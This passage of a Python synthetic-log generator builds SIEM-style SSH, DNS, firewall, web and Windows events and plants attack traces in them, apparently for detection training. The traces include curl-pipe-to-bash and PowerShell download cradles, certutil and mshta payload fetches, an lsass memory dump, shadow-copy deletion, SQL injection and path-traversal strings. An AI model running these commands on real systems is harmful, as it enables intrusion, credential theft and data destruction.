                f'"log":{{"file":{{"path":"/var/log/auth.log"}}}},"message":"{msg}"}}')

    def dns(self, t: int, client: str, cport: int, name: str, qtype: str, rcode: str, resolver: tuple[str, str]) -> str:
        iso, k, x, us = self.times(t)
        rhost, rip = resolver
        orig = (f"{self.clock.bind[k]} {self.clock.sod[x]}.{us // 1000:03d} queries: info: client @0x7f3a{cport:04x}c0 "
                f"{client}#{cport} ({name}): query: {name} IN {qtype} +E(0)K ({rip})")
        return (f'{{"@timestamp":"{iso}","event":{{"dataset":"dns","module":"bind","kind":"event","category":["network"],'
                f'"type":["protocol","info"],"action":"dns_query","outcome":"{"success" if rcode == "NOERROR" else "failure"}",'
                f'"original":"{orig}"}},"host":{{"name":"{rhost}"}},"source":{{"ip":"{client}","port":{cport}}},'
                f'"destination":{{"ip":"{rip}","port":53}},"network":{{"transport":"udp","protocol":"dns"}},'
                f'"dns":{{"type":"query","question":{{"name":"{name}","type":"{qtype}","class":"IN"}},"response_code":"{rcode}"}},'
                f'"message":"query: {name} IN {qtype} -> {rcode}"}}')

    def firewall(self, t: int, rnd, host: str, allow: bool, direction: str, src: str, sport: int, dst: str, dport: int, proto: str) -> str:
        iso, k, x, us = self.times(t)
        up = (t - self.start_us) // 1_000_000 + self.uptime0
        tag = "UFW ALLOW" if allow else "UFW BLOCK"
        inif, outif = ("eth0", "eth1") if direction == "inbound" else ("eth1", "eth0")
        ln = 60 if proto == "tcp" else 76
        ttl = 52 + (sport % 12)
        if proto == "tcp":
            tail = f"PROTO=TCP SPT={sport} DPT={dport} WINDOW=64240 RES=0x00 SYN URGP=0"
        else:
            tail = f"PROTO=UDP SPT={sport} DPT={dport} LEN={ln - 20}"
        msg = f"[{tag}] IN={inif} OUT={outif} SRC={src} DST={dst} LEN={ln} TOS=0x00 PREC=0x00 TTL={ttl} ID={sport * 7 % 65536} DF {tail}"
        orig = f"{self.clock.syslog[k]} {self.clock.sod[x]} {host} kernel: [{up}.{us:06d}] {msg}"
        geo_s = self.geo_frag.get(src, "")
        geo_d = self.geo_frag.get(dst, "")
        typ = "allowed" if allow else "denied"
        return (f'{{"@timestamp":"{iso}","event":{{"dataset":"firewall","module":"iptables","kind":"event","category":["network"],'
                f'"type":["connection","{typ}"],"action":"{"accept" if allow else "drop"}","original":"{orig}"}},'
                f'"host":{{"name":"{host}"}},"observer":{{"type":"firewall","ingress":{{"interface":{{"name":"{inif}"}}}}}},'
                f'"source":{{"ip":"{src}","port":{sport}{geo_s}}},"destination":{{"ip":"{dst}","port":{dport}{geo_d}}},'
                f'"network":{{"transport":"{proto}","direction":"{direction}"}},"iptables":{{"ttl":{ttl},"length":{ln}}},'
                f'"message":"{msg}"}}')

    def web(self, t: int, host: str, site: str, ip: str, method: str, url_e: str, status: int, nbytes: int, ref_e: str, ua_e: str, user: str = "-") -> str:
        iso, k, x, _ = self.times(t)
        orig = (f'{ip} - {user} [{self.clock.nginx[k]}:{self.clock.sod[x]} +0000] \\"{method} {url_e} HTTP/1.1\\" '
                f'{status} {nbytes} \\"{ref_e}\\" \\"{ua_e}\\"')
        geo = self.geo_frag.get(ip, "")
        path_e = url_e.split("?", 1)[0]
        q = url_e[len(path_e) + 1:]
        qfrag = f',"query":"{q}"' if q else ""
        ufrag = f',"user":{{"name":"{user}"}}' if user != "-" else ""
        reffrag = f',"referrer":"{ref_e}"' if ref_e != "-" else ""
        outcome = "success" if status < 400 else "failure"
        return (f'{{"@timestamp":"{iso}","event":{{"dataset":"nginx.access","module":"nginx","kind":"event","category":["web"],'
                f'"type":["access"],"outcome":"{outcome}","original":"{orig}"}},"host":{{"name":"{host}"}},'
                f'"source":{{"ip":"{ip}"{geo}}},"url":{{"original":"{url_e}","domain":"{site}","path":"{path_e}"{qfrag}}},'
                f'"http":{{"version":"1.1","request":{{"method":"{method}"{reffrag}}},"response":{{"status_code":{status},"body":{{"bytes":{nbytes}}}}}}},'
                f'"user_agent":{{"original":"{ua_e}"}}{ufrag},"message":"{method} {url_e} HTTP/1.1 {status} {nbytes}"}}')

    def win_logon(self, t: int, host: str, user: str, domain: str, ip: str | None, port: int, ltype: str, success: bool, rec: int) -> str:
        iso, _, _, _ = self.times(t)
        code = "4624" if success else "4625"
        ipx = ip if ip else "-"
        sfrag = f',"source":{{"ip":"{ip}","port":{port}{self.geo_frag.get(ip, "")}}}' if ip else ""
        if success:
            text = "An account was successfully logged on."
            extra_xml = ""
            reason = ""
        else:
            text = "An account failed to log on."
            extra_xml = "<Data Name='Status'>0xc000006d</Data><Data Name='SubStatus'>0xc000006a</Data>"
            reason = ',"reason":"Unknown user name or bad password."'
        fqdn = f"{host}.corp.acme.local"
        orig = (f"<Event><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>{code}</EventID>"
                f"<TimeCreated SystemTime='{iso}'/><EventRecordID>{rec}</EventRecordID><Channel>Security</Channel>"
                f"<Computer>{fqdn}</Computer></System><EventData><Data Name='TargetUserName'>{user}</Data>"
                f"<Data Name='TargetDomainName'>{domain}</Data><Data Name='LogonType'>{ltype}</Data>{extra_xml}"
                f"<Data Name='IpAddress'>{ipx}</Data><Data Name='IpPort'>{port if ip else '-'}</Data></EventData></Event>")
        return (f'{{"@timestamp":"{iso}","event":{{"dataset":"windows.security","module":"windows","kind":"event",'
                f'"category":["authentication"],"type":["start"],"action":"{"logged-in" if success else "logon-failed"}",'
                f'"outcome":"{"success" if success else "failure"}","code":"{code}","provider":"Microsoft-Windows-Security-Auditing"{reason},'
                f'"original":"{orig}"}},"host":{{"name":"{host}","os":{{"type":"windows"}}}},'
                f'"user":{{"name":"{user}","domain":"{domain}"}}{sfrag},'
                f'"winlog":{{"channel":"Security","event_id":"{code}","computer_name":"{fqdn}","record_id":{rec},"logon":{{"type":"{ltype}"}}}},'
                f'"message":"{text} User: {domain}\\\\{user} LogonType: {ltype} Source: {ipx}"}}')

    def win_process(self, t: int, host: str, user: str, parent_e: str, exe_e: str, name_e: str, cmd_e: str, pid: int, ppid: int,
                    sysmon: bool, sha: str | None, rec: int) -> str:
        iso, _, _, _ = self.times(t)
        fqdn = f"{host}.corp.acme.local"
        if sysmon:
            hfrag = f',"file":{{"hash":{{"sha256":"{sha}"}}}}' if sha else ""
            hx = f"SHA256={sha}" if sha else "-"
            orig = (f"Process Create: RuleName: - UtcTime: {iso[:10]} {iso[11:23]} ProcessId: {pid} Image: {exe_e} "
                    f"CommandLine: {cmd_e} CurrentDirectory: C:\\\\Windows\\\\system32\\\\ User: CORP\\\\{user} Hashes: {hx} "
                    f"ParentProcessId: {ppid} ParentImage: {parent_e}")
            return (f'{{"@timestamp":"{iso}","event":{{"dataset":"windows.sysmon_operational","module":"sysmon","kind":"event",'
                    f'"category":["process"],"type":["start"],"action":"Process Create (rule: ProcessCreate)","code":"1",'
                    f'"provider":"Microsoft-Windows-Sysmon","original":"{orig}"}},"host":{{"name":"{host}","os":{{"type":"windows"}}}},'
                    f'"user":{{"name":"{user}","domain":"CORP"}},"process":{{"pid":{pid},"name":"{name_e}","executable":"{exe_e}",'
                    f'"command_line":"{cmd_e}","parent":{{"pid":{ppid},"executable":"{parent_e}"}}}}{hfrag},'
                    f'"winlog":{{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1","computer_name":"{fqdn}","record_id":{rec}}},'
                    f'"message":"Process Create: {exe_e}"}}')
        orig = (f"<Event><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4688</EventID>"
                f"<TimeCreated SystemTime='{iso}'/><EventRecordID>{rec}</EventRecordID><Channel>Security</Channel>"
                f"<Computer>{fqdn}</Computer></System><EventData><Data Name='SubjectUserName'>{user}</Data>"
                f"<Data Name='NewProcessId'>0x{pid:x}</Data><Data Name='NewProcessName'>{exe_e}</Data>"
                f"<Data Name='CommandLine'>{cmd_e}</Data><Data Name='ParentProcessName'>{parent_e}</Data></EventData></Event>")
        return (f'{{"@timestamp":"{iso}","event":{{"dataset":"windows.security","module":"windows","kind":"event",'
                f'"category":["process"],"type":["start"],"action":"created-process","code":"4688",'
                f'"provider":"Microsoft-Windows-Security-Auditing","original":"{orig}"}},"host":{{"name":"{host}","os":{{"type":"windows"}}}},'
                f'"user":{{"name":"{user}","domain":"CORP"}},"process":{{"pid":{pid},"name":"{name_e}","executable":"{exe_e}",'
                f'"command_line":"{cmd_e}","parent":{{"pid":{ppid},"executable":"{parent_e}"}}}},'
                f'"winlog":{{"channel":"Security","event_id":"4688","computer_name":"{fqdn}","record_id":{rec}}},'
                f'"message":"A new process has been created. {exe_e}"}}')

    def win_file(self, t: int, host: str, user: str, exe_e: str, path_e: str, pid: int, sha: str | None, rec: int) -> str:
        """Sysmon 11 (FileCreate), or 15 (FileCreateStreamHash) when a hash is given."""
        iso, _, _, _ = self.times(t)
        fqdn = f"{host}.corp.acme.local"
        name_e = exe_e.rsplit("\\\\", 1)[-1]
        if sha:
            code, action = "15", "File stream created (rule: FileCreateStreamHash)"
            path_e = path_e + ":Zone.Identifier"
            hfrag = f',"hash":{{"sha256":"{sha}"}}'
            hx = f" Hash: SHA256={sha}"
        else:
            code, action, hfrag, hx = "11", "File created (rule: FileCreate)", "", ""
        orig = f"{action.split(' (')[0]}: UtcTime: {iso[:10]} {iso[11:23]} ProcessId: {pid} Image: {exe_e} TargetFilename: {path_e}{hx} User: CORP\\\\{user}"
        return (f'{{"@timestamp":"{iso}","event":{{"dataset":"windows.sysmon_operational","module":"sysmon","kind":"event",'
                f'"category":["file"],"type":["creation"],"action":"{action}","code":"{code}","provider":"Microsoft-Windows-Sysmon",'
                f'"original":"{orig}"}},"host":{{"name":"{host}","os":{{"type":"windows"}}}},"user":{{"name":"{user}","domain":"CORP"}},'
                f'"process":{{"pid":{pid},"name":"{name_e}","executable":"{exe_e}"}},"file":{{"path":"{path_e}"{hfrag}}},'
                f'"winlog":{{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"{code}","computer_name":"{fqdn}","record_id":{rec}}},'
                f'"message":"{action.split(" (")[0]}: {path_e}"}}')

    def win_simple(self, t: int, host: str, user: str, code: str, action: str, category: str, typ: str, text: str, extra: str, rec: int) -> str:
        iso, _, _, _ = self.times(t)
        fqdn = f"{host}.corp.acme.local"
        orig = (f"<Event><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>{code}</EventID>"
                f"<TimeCreated SystemTime='{iso}'/><EventRecordID>{rec}</EventRecordID><Channel>Security</Channel>"
                f"<Computer>{fqdn}</Computer></System><EventData><Data Name='SubjectUserName'>{user}</Data>{extra}</EventData></Event>")
        return (f'{{"@timestamp":"{iso}","event":{{"dataset":"windows.security","module":"windows","kind":"event",'
                f'"category":["{category}"],"type":["{typ}"],"action":"{action}","code":"{code}","outcome":"success",'
                f'"provider":"Microsoft-Windows-Security-Auditing","original":"{orig}"}},"host":{{"name":"{host}","os":{{"type":"windows"}}}},'
                f'"user":{{"name":"{user}","domain":"CORP"}},'
                f'"winlog":{{"channel":"Security","event_id":"{code}","computer_name":"{fqdn}","record_id":{rec}}},'
                f'"message":"{text}"}}')

    # ------------------------------------------------------------------------------------------
    # background: one random event of each source
    # ------------------------------------------------------------------------------------------
    def make_background(self, rnd: random.Random):
        g = self
        bits = rnd.getrandbits
        rand = rnd.random
        B = TABLE_BITS
        t_scan_ip, t_exposed, t_scan_user, t_linux_host, t_linux_user = g.t_scan_ip, g.t_exposed, g.t_scan_user, g.t_linux_host, g.t_linux_user
        linux_ip, t_sudo_cmd = g.linux_ip, g.t_sudo_cmd
        t_domain, t_dns_client, t_qtype, t_rcode, resolvers = g.t_domain, g.t_dns_client, g.t_qtype, g.t_rcode, g.resolvers
        t_fw_out, t_fw_in_port, t_fw_in_udp, t_dest_ext, public_ips, firewalls = g.t_fw_out, g.t_fw_in_port, g.t_fw_in_udp, g.t_dest_ext, g.public_ips, g.firewalls
        t_ws, ws_ip = g.t_ws, g.ws_ip
        t_web_ip, t_path, t_ua, t_method, t_status, t_site, t_web_host, t_referrer = (
            g.t_web_ip, g.t_path, g.t_ua, g.t_method, g.t_status, g.t_site, g.t_web_host, g.t_referrer)
        t_win_user, user_home, t_server, server_ip, t_logon_type = g.t_win_user, g.user_home, g.t_server, g.server_ip, g.t_logon_type
        t_proc, hashes, t_file_dir, t_file_name = g.t_proc, g.hashes, g.t_file_dir, g.t_file_name
        rec = [1_000_000]

        def next_rec() -> int:
            rec[0] += 1 + (rec[0] & 3)
            return rec[0]

        def ssh_scan(t):
            ip = t_scan_ip[bits(B)]
            host = t_exposed[bits(B)]
            user = t_scan_user[bits(B)]
            port = 1024 + bits(16) % 64000
            pid = 1000 + bits(17) % 120000
            r = rand()
            if user in ("root", "git", "deploy", "postgres", "ubuntu", "jenkins", "backup") :
                return g.ssh(t, rnd, host, user, ip, port, pid, "failed")
            return g.ssh(t, rnd, host, user, ip, port, pid, "invalid" if r < 0.45 else "failed_invalid")

        def ssh_ok(t):
            host = t_linux_host[bits(B)]
            user = t_linux_user[bits(B)]
            src = linux_ip["bastion01"] if host not in ("bastion01", "bastion02") else ws_ip[t_ws[bits(B)]]
            port = 1024 + bits(16) % 64000
            kind = "accepted_publickey" if rand() < 0.9 else "accepted_password"
            return g.ssh(t, rnd, host, user, src, port, 1000 + bits(17) % 120000, kind)

        def ssh_internal_fail(t):
            host = t_linux_host[bits(B)]
            user = t_linux_user[bits(B)]
            src = ws_ip[t_ws[bits(B)]]
            return g.ssh(t, rnd, host, user, src, 1024 + bits(16) % 64000, 1000 + bits(17) % 120000, "failed")

        def sudo(t):
            host = t_linux_host[bits(B)]
            user = t_linux_user[bits(B)]
            if user == "root":
                user = "deploy"
            return g.sudo(t, host, user, t_sudo_cmd[bits(B)], 1000 + bits(17) % 120000)

        def dns(t):
            name = t_domain[bits(B)]
            qt = t_qtype[bits(12)]
            if qt == "PTR":
                client = t_dns_client[bits(B)]
                a, b, c, d = client.split(".")
                name = f"{d}.{c}.{b}.{a}.in-addr.arpa"
            rc = t_rcode[bits(12)]
            return g.dns(t, t_dns_client[bits(B)], 1024 + bits(16) % 64000, name, qt, rc, resolvers[bits(1)])

        def fw_out(t):
            port, proto = t_fw_out[bits(12)]
            src = ws_ip[t_ws[bits(B)]]
            allow = rand() > 0.02
            return g.firewall(t, rnd, firewalls[bits(1)], allow, "outbound", src, 1024 + bits(16) % 64000, t_dest_ext[bits(B)], port, proto)

        def fw_in(t):
            src = t_scan_ip[bits(B)]
            dst = public_ips[bits(16) % 20]
            r = rand()
            if r < 0.18:
                return g.firewall(t, rnd, firewalls[bits(1)], True, "inbound", t_web_ip[bits(B)], 1024 + bits(16) % 64000, public_ips[bits(2)], 443 if r < 0.15 else 80, "tcp")
            if r < 0.9:
                return g.firewall(t, rnd, firewalls[bits(1)], False, "inbound", src, 1024 + bits(16) % 64000, dst, t_fw_in_port[bits(B)], "tcp")
            return g.firewall(t, rnd, firewalls[bits(1)], False, "inbound", src, 1024 + bits(16) % 64000, dst, t_fw_in_udp[bits(B)], "udp")

        def web(t):
            method = t_method[bits(12)]
            path = t_path[bits(B)]
            status = t_status[bits(12)]
            if path.startswith("/api/") and method == "GET" and rand() < 0.3:
                url = f"{path}?page={bits(4)}&limit=20"
            elif path == "/search":
                url = f"/search?q={t_path[bits(B)].rsplit('/', 1)[-1] or 'home'}"
            else:
                url = path
            if status == 304 or method == "HEAD":
                nbytes = 0
            elif path.startswith("/static/"):
                nbytes = 20000 + bits(17)
            else:
                nbytes = 300 + bits(14)
            return g.web(t, t_web_host[bits(B)], t_site[bits(12)], t_web_ip[bits(B)], method, url, status, nbytes, t_referrer[bits(12)], t_ua[bits(B)])

        def logon(t):
            user = t_win_user[bits(B)]
            lt = t_logon_type[bits(12)]
            home = user_home[user]
            if lt == "3":
                if rand() < 0.8:
                    host = t_server[bits(B)]
                    ip = ws_ip[home]
                else:
                    host = home
                    ip = server_ip[t_server[bits(B)]]
                return g.win_logon(t, host, user, "CORP", ip, 49152 + bits(14), lt, True, next_rec())
            if lt == "10":
                host = "RDS01" if rand() < 0.7 else t_server[bits(B)]
                return g.win_logon(t, host, user, "CORP", ws_ip[home], 49152 + bits(14), lt, True, next_rec())
            if lt in ("5", "4"):
                svc = WIN_SERVICE_ACCOUNTS[bits(16) % 7] if lt == "4" else "SYSTEM"
                host = t_server[bits(B)] if rand() < 0.5 else t_ws[bits(B)]
                return g.win_logon(t, host, svc, "CORP" if lt == "4" else "NT AUTHORITY", None, 0, lt, True, next_rec())
            return g.win_logon(t, home, user, "CORP", "127.0.0.1", 0, lt, True, next_rec())

        def logon_fail(t):
            r = rand()
            if r < 0.3:  # internet RDP password spraying against the RDS gateway; never succeeds
                return g.win_logon(t, "RDS01", t_scan_user[bits(B)].upper() if rand() < 0.3 else t_scan_user[bits(B)],
                                   "RDS01", t_scan_ip[bits(B)], 1024 + bits(16) % 64000, "10", False, next_rec())
            user = t_win_user[bits(B)]
            home = user_home[user]
            if r < 0.75:
                return g.win_logon(t, t_server[bits(B)], user, "CORP", ws_ip[home], 49152 + bits(14), "3", False, next_rec())
            return g.win_logon(t, home, user, "CORP", "127.0.0.1", 0, "2", False, next_rec())

        def process(t, sysmon: bool):
            parent_e, exe_e, name_e, cmd_e, exe = t_proc[bits(16)]
            r = rand()
            if exe.startswith(SYS32) and (parent_e.startswith("C:\\\\Windows\\\\System32\\\\services") or r < 0.1) and "svchost" in exe:
                user, host = "SYSTEM", t_ws[bits(B)] if r < 0.8 else t_server[bits(B)]
            else:
                user = t_win_user[bits(B)]
                host = user_home[user]
            hs = hashes[exe]
            sha = hs[bits(8) % len(hs)] if sysmon else None
            pid = 4 * (100 + bits(14))
            return g.win_process(t, host, user, parent_e, exe_e, name_e, cmd_e, pid, 4 * (100 + bits(13)), sysmon, sha, next_rec())

        def file_create(t):
            user = t_win_user[bits(B)]
            host = user_home[user]
            d = t_file_dir[bits(12)].replace("{u}", user)
            path_e = je(d + t_file_name[bits(B)])
            if rand() < 0.15:
                return g.win_file(t, host, user, je(CHROME), path_e, 4 * (100 + bits(14)),
                                  hashlib.sha256(path_e.encode()).hexdigest(), next_rec())
            exe_e = je([CHROME, OFFICE + "WINWORD.EXE", OFFICE + "EXCEL.EXE", EXPLORER, OFFICE + "OUTLOOK.EXE"][bits(16) % 5])
            return g.win_file(t, host, user, exe_e, path_e, 4 * (100 + bits(14)), None, next_rec())

        def logoff(t):
            user = t_win_user[bits(B)]
            return g.win_simple(t, user_home[user], user, "4634", "logged-out", "authentication", "end",
                                f"An account was logged off. User: CORP\\\\{user}", "<Data Name='LogonType'>3</Data>", next_rec())

        mix = [
            (ssh_scan, 5.0), (ssh_ok, 1.2), (ssh_internal_fail, 0.15), (sudo, 1.0),
            (dns, 30.0),
            (fw_out, 16.0), (fw_in, 9.0),
            (web, 19.0),
            (logon, 8.0), (logon_fail, 1.0), (logoff, 2.0),
            (lambda t: process(t, False), 3.0), (lambda t: process(t, True), 3.5), (file_create, 1.2),
        ]
        return weighted_table(mix, bits=12)


# ----------------------------------------------------------------------------------------------
# planted attack traces
# ----------------------------------------------------------------------------------------------
class Planter:
    """Builds the fixed set of attack traces, as (time_us, line) pairs."""

    def __init__(self, g: Generator, seed: int):
        self.g = g
        self.rnd = random.Random(f"palisade-store-planted-{seed}")
        self.out: list[tuple[int, str]] = []
        self.rec = 9_000_000

    def at(self, frac: float) -> int:
        """A time at `frac` of the period, plus up to a minute so no trace starts on a round second."""
        return self.g.start_us + int(frac * self.g.span_us) + self.rnd.randrange(60_000_000)

    def add(self, t: int, line: str) -> None:
        self.out.append((t, line))

    def next_rec(self) -> int:
        self.rec += 1
        return self.rec

    def build(self) -> list[tuple[int, str]]:
        g, r = self.g, self.rnd
        ips = iter(g.planted_ips)
        # 1. SSH brute force bursts from rare-country IPs, each followed by a success, then sudo.
        for i, (frac, host, user) in enumerate([(0.13, "bastion01", "deploy"), (0.47, "vpn01", "backup"), (0.81, "git01", "git")]):
            ip = next(ips)
            g.country[ip] = RARE_COUNTRIES[i]
            g.geo_frag[ip] = f',"geo":{{"country_iso_code":"{RARE_COUNTRIES[i]}"}}'
            t = self.at(frac)
            for _ in range(25 + r.randrange(30)):
                t += r.randrange(1_500_000, 6_000_000)
                self.add(t, g.ssh(t, r, host, user, ip, r.randrange(30000, 60000), r.randrange(2000, 90000), "failed"))
            t += r.randrange(20_000_000, 90_000_000)
            self.add(t, g.ssh(t, r, host, user, ip, r.randrange(30000, 60000), r.randrange(2000, 90000), "accepted_password"))
            for cmd in ("/usr/bin/id", "/bin/bash -c \"curl -fsSL http://" + ip + "/k.sh | bash\"", "/usr/bin/crontab -e"):
                t += r.randrange(10_000_000, 60_000_000)
                self.add(t, g.sudo(t, host, user, je(cmd), r.randrange(2000, 90000)))
        # Two bursts that never succeed (common countries).
        for frac, host in [(0.3, "bastion02"), (0.66, "bastion01")]:
            ip = next(ips)
            t = self.at(frac)
            for _ in range(40):
                t += r.randrange(500_000, 3_000_000)
                self.add(t, g.ssh(t, r, host, "root", ip, r.randrange(30000, 60000), r.randrange(2000, 90000), "failed"))
        # 2. RDP brute force against RDS01 followed by a success (type 10), rare country.
        ip = next(ips)
        g.country[ip] = "BY"
        g.geo_frag[ip] = ',"geo":{"country_iso_code":"BY"}'
        t = self.at(0.55)
        victim = g.win_users[7]
        for _ in range(30):
            t += r.randrange(1_000_000, 4_000_000)
            self.add(t, g.win_logon(t, "RDS01", victim, "CORP", ip, r.randrange(30000, 60000), "10", False, self.next_rec()))
        t += 45_000_000
        self.add(t, g.win_logon(t, "RDS01", victim, "CORP", ip, r.randrange(30000, 60000), "10", True, self.next_rec()))
        # 3. Rare parent/child chains (maldoc -> PowerShell -> ...), with unique hashes.
        ws = g.workstations
        enc = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.7/a')".encode("utf-16-le")).decode()
        chains = [
            (0.21, ws[311], [
                (OFFICE + "WINWORD.EXE", PS, f"powershell.exe -nop -w hidden -enc {enc}"),
                (PS, SYS32 + "rundll32.exe", "rundll32.exe C:\\Users\\Public\\Libraries\\upd.dll,DllRegisterServer"),
                (SYS32 + "rundll32.exe", "C:\\Users\\Public\\svchost.exe", "C:\\Users\\Public\\svchost.exe -k netsvcs"),
            ]),
            (0.38, ws[517], [
                (OFFICE + "EXCEL.EXE", SYS32 + "cmd.exe", "cmd.exe /c certutil -urlcache -split -f http://45.137.21.9/inv.exe %TEMP%\\inv.exe"),
                (SYS32 + "cmd.exe", SYS32 + "certutil.exe", "certutil -urlcache -split -f http://45.137.21.9/inv.exe C:\\Users\\Public\\inv.exe"),
            ]),
            (0.59, ws[88], [
                (OFFICE + "OUTLOOK.EXE", SYS32 + "mshta.exe", "mshta.exe http://cdn-docs-share.top/view.hta"),
                (SYS32 + "mshta.exe", PS, "powershell.exe -ep bypass -c \"iwr http://cdn-docs-share.top/s.ps1 | iex\""),
            ]),
            (0.62, "FS01", [
                (SYS32 + "wbem\\WmiPrvSE.exe", PS, "powershell.exe -nop -c \"Get-ADComputer -Filter * | Select Name\""),
                (SYS32 + "wbem\\WmiPrvSE.exe", SYS32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full"),
            ]),
            (0.9, "SQL01", [
                (SYS32 + "cmd.exe", SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
                (SYS32 + "cmd.exe", SYS32 + "wbadmin.exe", "wbadmin delete catalog -quiet"),
            ]),
        ]
        for frac, host, steps in chains:
            t = self.at(frac)
            user = "SYSTEM" if host in WIN_SERVERS else g.win_users[ws.index(host) % len(g.win_users)]
            if host in WIN_SERVERS:
                user = "svc_sql" if host == "SQL01" else "adm_" + g.win_users[3]
            ppid = 4 * r.randrange(100, 4000)
            for parent, child, cmd in steps:
                t += r.randrange(2_000_000, 40_000_000)
                pid = 4 * r.randrange(100, 4000)
                sha = hashlib.sha256(f"planted:{child}:{cmd}".encode()).hexdigest()
                for sysmon in (False, True):
                    self.add(t + sysmon * 1000, g.win_process(t + sysmon * 1000, host, user, je(parent), je(child), je(base_name(child)), je(cmd),
                                                             pid, ppid, sysmon, sha if sysmon else None, self.next_rec()))
                ppid = pid
        # Dropped file with a Zone.Identifier stream on the maldoc host.
        t = self.at(0.21) - 120_000_000
        u = g.win_users[311 % len(g.win_users)]
        self.add(t, g.win_file(t, ws[311], u, je(OFFICE + "OUTLOOK.EXE"), je(f"C:\\Users\\{u}\\Downloads\\Invoice_2026_10.docm"), 5120,
                               hashlib.sha256(b"planted:docm").hexdigest(), self.next_rec()))
        # 4. DGA: one workstation resolves many random-looking domains, mostly NXDOMAIN.
        host = ws[402]
        client = g.ws_ip[host]
        t = self.at(0.44)
        alphabet = string.ascii_lowercase + string.digits
        for i in range(60):
            t += r.randrange(3_000_000, 25_000_000)
            name = "".join(r.choice(alphabet) for _ in range(r.randrange(12, 20))) + r.choice([".xyz", ".top", ".biz", ".info"])
            self.add(t, g.dns(t, client, r.randrange(1024, 65000), name, "A", "NOERROR" if i in (17, 43) else "NXDOMAIN", g.resolvers[i % 2]))
        # 5. Beaconing: one workstation calls home every ~300 s (+-10%) for a day; hourly DNS lookup.
        host = ws[233]
        src = g.ws_ip[host]
        c2 = next(ips)
        c2_domain = "telemetry-cdn-sync.net"
        t = self.at(0.7)
        end = t + min(86400, g.days * 86400 // 4) * 1_000_000
        last_dns = 0
        while t < end:
            if t - last_dns >= 3600_000_000:
                self.add(t - 150_000, g.dns(t - 150_000, src, r.randrange(1024, 65000), c2_domain, "A", "NOERROR", g.resolvers[0]))
                last_dns = t
            self.add(t, g.firewall(t, r, g.firewalls[0], True, "outbound", src, r.randrange(49152, 65535), c2, 443, "tcp"))
            t += int(300_000_000 * r.uniform(0.9, 1.1))
        # 6. Port scan: one external IP hits 150 distinct ports on one public address.
        ip = next(ips)
        t = self.at(0.25)
        ports = r.sample(range(1, 10000), 150)
        for p in ports:
            t += r.randrange(50_000, 400_000)
            self.add(t, g.firewall(t, r, g.firewalls[1], False, "inbound", ip, r.randrange(40000, 60000), g.public_ips[3], p, "tcp"))
        # 7. Web attacks: sqlmap, nikto-like scanning, path traversal, a webshell.
        ip = next(ips)
        t = self.at(0.33)
        ua = je("sqlmap/1.8.4#stable (https://sqlmap.org)")
        payloads = ["1' OR '1'='1", "1 UNION ALL SELECT NULL,NULL,NULL-- -", "1' AND SLEEP(5)-- -",
                    "1) UNION SELECT username,password FROM users--", "1' AND 1=CONVERT(int,@@version)--", "1;DROP TABLE users--"]
        for i in range(80):
            t += r.randrange(200_000, 2_000_000)
            p = payloads[i % len(payloads)].replace(" ", "%20").replace("'", "%27")
            self.add(t, g.web(t, "web02", "shop.acme-corp.com", ip, "GET", f"/api/v1/products?id={p}", 500 if i % 3 == 0 else 200,
                              300 + r.randrange(5000), "-", ua))
        ip = next(ips)
        t = self.at(0.5)
        ua = je("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:004512)")
        for i in range(120):
            t += r.randrange(100_000, 900_000)
            path = SCANNER_PATHS[i % len(SCANNER_PATHS)] if i % 4 else f"/cgi-bin/{r.choice(WORDS)}.cgi"
            self.add(t, g.web(t, "web01", "www.acme-corp.com", ip, "GET", path, 404, 150 + r.randrange(50), "-", ua))
        ip = next(ips)
        t = self.at(0.51)
        for i, path in enumerate(["/download?file=../../../../etc/passwd", "/download?file=..%2f..%2f..%2fetc%2fshadow",
                                  "/static/..%2f..%2f..%2fwindows/win.ini", "/download?file=....//....//etc/hosts"]):
            t += r.randrange(1_000_000, 5_000_000)
            self.add(t, g.web(t, "web03", "portal.acme-corp.com", ip, "GET", path, 400 if i % 2 else 200, 1200, "-", je("curl/7.68.0")))
        ip = next(ips)
        t = self.at(0.52)
        for i in range(12):
            t += r.randrange(30_000_000, 600_000_000)
            self.add(t, g.web(t, "web03", "portal.acme-corp.com", ip, "POST", "/uploads/avatar_8812.php", 200, 96 + r.randrange(4000),
                              "-", je("Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1")))
        # 8. DNS tunnelling: TXT queries with long encoded labels to one domain.
        host = ws[640]
        client = g.ws_ip[host]
        t = self.at(0.74)
        for i in range(120):
            t += r.randrange(500_000, 8_000_000)
            label = base64.b32encode(r.randbytes(30)).decode().rstrip("=").lower()
            self.add(t, g.dns(t, client, r.randrange(1024, 65000), f"{label[:40]}.{label[40:]}{i}.x.exfil-sync.com", "TXT", "NOERROR", g.resolvers[1]))
        # 9. Lateral movement: one admin account logs on (type 3) to 25 workstations in minutes.
        adm = "adm_" + g.win_users[3]
        src = g.ws_ip[ws[77]]
        t = self.at(0.61)
        for host in r.sample(ws, 25):
            t += r.randrange(5_000_000, 30_000_000)
            self.add(t, g.win_logon(t, host, adm, "CORP", src, r.randrange(49152, 65535), "3", True, self.next_rec()))
        # 10. Rare admin actions: user created and added to admins, audit log cleared.
        t = self.at(0.63)
        self.add(t, g.win_simple(t, "DC01", adm, "4720", "added-user-account", "iam", "user", "A user account was created. New account: CORP\\\\helpdesk_tmp",
                                 "<Data Name='TargetUserName'>helpdesk_tmp</Data>", self.next_rec()))
        t += 20_000_000
        self.add(t, g.win_simple(t, "DC01", adm, "4732", "added-member-to-group", "iam", "group", "A member was added to a security-enabled local group. Group: Administrators",
                                 "<Data Name='MemberName'>CN=helpdesk_tmp,OU=Users,DC=corp,DC=acme,DC=local</Data><Data Name='TargetUserName'>Administrators</Data>", self.next_rec()))
        t = self.at(0.905)
        self.add(t, g.win_simple(t, "SQL01", "svc_sql", "1102", "audit-log-cleared", "configuration", "change", "The audit log was cleared.",
                                 "", self.next_rec()))
        self.out.sort(key=lambda p: p[0])
        return self.out


def parse_time(text: str) -> int:
